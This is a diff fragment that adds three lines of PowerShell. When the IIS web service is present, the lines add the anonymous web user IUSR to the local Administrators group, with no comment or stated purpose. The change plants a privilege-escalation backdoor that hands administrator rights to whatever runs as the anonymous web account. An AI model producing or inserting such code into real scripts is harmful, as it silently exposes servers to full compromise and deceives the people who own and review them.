@@ -1,0 +1,3 @@
+if (Get-Service W3SVC -ErrorAction SilentlyContinue) {
+    Add-LocalGroupMember Administrators IUSR
+}
